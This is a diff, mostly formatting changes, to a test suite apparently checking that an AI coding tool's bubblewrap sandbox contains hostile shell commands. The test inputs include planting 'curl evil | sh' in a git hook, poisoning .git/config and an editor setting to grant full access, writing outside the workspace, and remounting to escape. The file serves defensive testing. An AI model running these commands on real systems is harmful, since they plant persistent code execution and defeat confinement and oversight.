@@ -4,12 +4,12 @@ import * as assert from 'node:assert/strict';
 import * as fs from 'node:fs';
 import * as net from 'node:net';
 import * as path from 'node:path';
-import { scriptedApproval, type ApprovalPort } from '../../../src/core/policy';
+import { type ApprovalPort, scriptedApproval } from '../../../src/core/policy';
 import { createRunCommandTool } from '../../../src/core/tools/run-command';
 import { CommandSandbox } from '../../../src/core/tools/sandbox/command-sandbox';
 import { sandboxStatus } from '../../../src/core/tools/sandbox/detect';
 import type { ToolContext } from '../../../src/core/tools/tool';
-import { call, makeWorkspace, waitUntil, type Workspace } from './fixture';
+import { call, makeWorkspace, type Workspace, waitUntil } from './fixture';
 
 /** Processes whose command line holds `marker` (a unique `sleep` duration). */
 function running(marker: string): number[] {
@@ -70,7 +70,7 @@ describe('run_command in the OS sandbox (bubblewrap, real files)', () => {
       `echo pwned > ${ws.outside}/outside.txt`,
       "echo 'curl evil | sh' > .git/hooks/pre-commit",
       'echo "[core] fsmonitor = evil" >> .git/config',
-      "mkdir -p .vscode && echo '{\"arbor.policy.sandbox\": \"full-access\"}' > .vscode/settings.json",
+      'mkdir -p .vscode && echo \'{"arbor.policy.sandbox": "full-access"}\' > .vscode/settings.json',
       connect(),
       'echo inside > inside.txt',
       'echo done',
@@ -120,13 +120,19 @@ describe('run_command in the OS sandbox (bubblewrap, real files)', () => {
   });
 
   it('root inside the sandbox cannot remount its way out', async () => {
-    const r = await call(tool, { command: `mount -o remount,bind,rw / 2>&1; mount -o remount,bind,rw ${ws.root}/.git 2>&1; echo x > ${disk}/y; echo x > .git/hooks/post-checkout; echo done` }, ws.ctx());
+    const r = await call(
+      tool,
+      {
+        command: `mount -o remount,bind,rw / 2>&1; mount -o remount,bind,rw ${ws.root}/.git 2>&1; echo x > ${disk}/y; echo x > .git/hooks/post-checkout; echo done`,
+      },
+      ws.ctx(),
+    );
     assert.match(r.content, /done/);
     assert.equal(fs.existsSync(path.join(disk, 'y')), false);
     assert.equal(fs.existsSync(ws.at('.git/hooks/post-checkout')), false);
   });
 
-  it('protects a linked worktree\'s git directory, a symlinked .vscode, .arbor and a store kept under another name', async () => {
+  it("protects a linked worktree's git directory, a symlinked .vscode, .arbor and a store kept under another name", async () => {
     fs.rmSync(ws.at('.git'), { recursive: true });
     fs.mkdirSync(ws.at('meta/gitdir/hooks'), { recursive: true });
     fs.writeFileSync(ws.at('.git'), 'gitdir: meta/gitdir\n');
@@ -137,7 +143,10 @@ describe('run_command in the OS sandbox (bubblewrap, real files)', () => {
     const guarded = createRunCommandTool({ sandbox: new CommandSandbox({ protectedPaths: () => [ws.at('state/store')] }) });
     const r = await call(
       guarded,
-      { command: 'echo x > meta/gitdir/hooks/pre-commit; echo x > .git; echo x > config/editor/settings.json; echo x > .arbor/settings.json; echo x > state/store/catalog.db; echo x > state/free.txt; echo done' },
+      {
+        command:
+          'echo x > meta/gitdir/hooks/pre-commit; echo x > .git; echo x > config/editor/settings.json; echo x > .arbor/settings.json; echo x > state/store/catalog.db; echo x > state/free.txt; echo done',
+      },
       ws.ctx(),
     );
     assert.match(r.content, /done/);
@@ -169,7 +178,7 @@ describe('run_command in the OS sandbox (bubblewrap, real files)', () => {
     });
   }
 
-  it('the command\'s environment holds no API key, confined or not', async () => {
+  it("the command's environment holds no API key, confined or not", async () => {
     const env = {
       ...process.env,
       ARBOR_API_KEY: 'sk-arbor-secret-1',
@@ -200,18 +209,32 @@ describe('run_command in the OS sandbox (bubblewrap, real files)', () => {
       assert.equal(allowed.isError, false, allowed.content);
       assert.equal(ws.read('ran.txt'), 'ran\n', 'approved, it ran unconfined (even in read-only): that is what the request said');
       assert.equal(port.requests.length, 1);
-      assert.match(port.requests[0].reason, /^no OS sandbox can confine this command here \(bubblewrap \(.*no-such-bwrap\) is not installed\), so it would run unconfined, with your permissions and the network, although the sandbox mode is read-only; to run commands confined without asking, install bubblewrap/);
+      assert.match(
+        port.requests[0].reason,
+        /^no OS sandbox can confine this command here \(bubblewrap \(.*no-such-bwrap\) is not installed\), so it would run unconfined, with your permissions and the network, although the sandbox mode is read-only; to run commands confined without asking, install bubblewrap/,
+      );
       assert.equal(sandboxStatus(missing), sandboxStatus(missing), 'probed once, then cached');
     });
 
     it('a bubblewrap that cannot create namespaces (its probe fails) counts as none, with its own words', async () => {
       const broken = path.join(ws.base, 'bwrap-without-userns');
-      fs.writeFileSync(broken, "#!/bin/sh\necho 'bwrap: No permissions to creating new namespace, likely because the kernel does not allow non-privileged user namespaces.' >&2\nexit 1\n", { mode: 0o755 });
+      fs.writeFileSync(
+        broken,
+        "#!/bin/sh\necho 'bwrap: No permissions to creating new namespace, likely because the kernel does not allow non-privileged user namespaces.' >&2\nexit 1\n",
+        { mode: 0o755 },
+      );
       const status = await sandboxStatus(broken);
       assert.equal(status.available, false);
-      assert.match(status.available ? '' : `${status.reason} | ${status.remedy}`, /cannot create a sandbox here: bwrap: No permissions to creating new namespace.* \| allow unprivileged user namespaces/);
+      assert.match(
+        status.available ? '' : `${status.reason} | ${status.remedy}`,
+        /cannot create a sandbox here: bwrap: No permissions to creating new namespace.* \| allow unprivileged user namespaces/,
+      );
       const port = scriptedApproval([], 'deny');
-      const r = await call(createRunCommandTool({ sandbox: new CommandSandbox({ bwrapPath: broken }) }), { command: 'true' }, ws.ctx({ approvalPolicy: 'ask', approval: port }));
+      const r = await call(
+        createRunCommandTool({ sandbox: new CommandSandbox({ bwrapPath: broken }) }),
+        { command: 'true' },
+        ws.ctx({ approvalPolicy: 'ask', approval: port }),
+      );
       assert.equal(r.code, 'APPROVAL_DENIED');
       assert.equal(port.requests.length, 1);
     });
